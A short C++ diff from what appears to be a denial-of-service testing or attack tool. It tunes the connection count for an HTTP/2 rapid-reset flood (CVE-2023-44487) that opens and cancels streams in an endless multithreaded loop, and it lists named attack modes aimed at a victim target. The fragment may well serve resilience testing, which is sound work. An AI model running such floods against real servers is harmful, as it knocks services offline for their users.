@@ -280,7 +280,7 @@ void OnConnections(int connections, const Connect& connect,
 }
 
 // Opens calls and resets them at once, as fast as it can (CVE-2023-44487).
-void Reset(const Connect& connect, const std::string& method, int connections_of_thread = 1) {
+void Reset(const Connect& connect, const std::string& method, int connections_of_thread) {
   OnThreads(8, [&](int, const Begun& begun) {
     for (;;) {
       std::vector<RawHttp2> connections;
@@ -463,9 +463,9 @@ Attacks ConnectionAttacks() {
         kOnPeerPort}},
       {"peer_strangers", {PeerStrangers, kOnPeerPort, /*across=*/false, /*on_victim=*/true}},
       {"side_requests", {SideRequests}},
-      {"reset_sessions", {[](const Target& t) { Reset(ToSocket(t), kSession); }}},
-      {"reset_questions", {[](const Target& t) { Reset(ToSocket(t), kHealth); }}},
-      {"reset_unknown", {[](const Target& t) { Reset(ToSocket(t), kUnknown); }}},
+      {"reset_sessions", {[](const Target& t) { Reset(ToSocket(t), kSession, 8); }}},
+      {"reset_questions", {[](const Target& t) { Reset(ToSocket(t), kHealth, 8); }}},
+      {"reset_unknown", {[](const Target& t) { Reset(ToSocket(t), kUnknown, 8); }}},
       {"peer_reset_attach", {[](const Target& t) { Reset(ToPeer(t), kAttach, 32); }, kOnPeerPort}},
       {"peer_reset_unknown",
        {[](const Target& t) { Reset(ToPeer(t), kUnknown, 32); }, kOnPeerPort}},
